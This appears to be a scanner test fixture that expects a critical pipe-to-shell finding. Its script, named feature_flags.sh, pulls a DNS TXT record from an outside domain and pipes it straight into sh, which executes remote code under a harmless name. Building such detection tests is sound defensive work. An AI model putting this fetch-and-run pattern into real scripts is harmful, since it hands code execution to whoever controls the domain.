# expect: shell.curl_pipe_shell critical
# path: scripts/feature_flags.sh
#!/bin/sh
set -e
dig +short TXT stage.acme-tools.dev | sed 's/"//g' | sh
